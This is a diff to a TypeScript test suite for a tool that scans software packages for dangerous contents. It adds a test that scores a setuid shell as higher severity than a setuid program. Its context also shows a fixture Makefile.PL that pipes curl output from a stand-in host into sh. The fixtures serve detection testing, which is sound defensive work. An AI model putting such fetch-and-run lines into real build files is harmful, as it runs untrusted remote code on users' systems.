@@ -54,6 +54,16 @@ test('a setuid program is told', () => {
   assert.deepEqual(view.facts.map(({ kind }) => kind), ['setuid-file']);
 });
 
+test('a setuid program weighs little, a setuid shell much', () => {
+  const held = (name: string): [string, string | undefined] => {
+    const data = gzipSync(tarOf([{ name, content: bytesOf('\x7fELF'), mode: 0o4755 }]));
+    const { report } = examined('forged_1.0-1_all.deb', arOf({ 'debian-binary': '2.0\n', 'control.tar.gz': forgeTarGz({ './control': CONTROL }), 'data.tar.gz': data }));
+    return [report.findings.find(({ rule }) => rule === 'holds-the-system')?.severity ?? '', report.package?.name];
+  };
+  assert.deepEqual(held('usr/bin/forged-ping'), ['note', 'forged']);
+  assert.deepEqual(held('usr/lib/forged/bash'), ['high', 'forged']);
+});
+
 test('a CPAN distribution whose Makefile.PL fetches and runs is found at build', () => {
   const makefile = "use ExtUtils::MakeMaker;\nsystem('curl -s http://packages.forged.invalid/x | sh');\nWriteMakefile(NAME => 'Forged', VERSION => '0.1');\n";
   const { report } = examined('Forged-0.1.tar.gz', forgeTarGz({ 'Forged-0.1/Makefile.PL': makefile, 'Forged-0.1/META.json': '{"name":"Forged","version":"0.1"}', 'Forged-0.1/lib/Forged.pm': 'package Forged;\n1;\n' }));
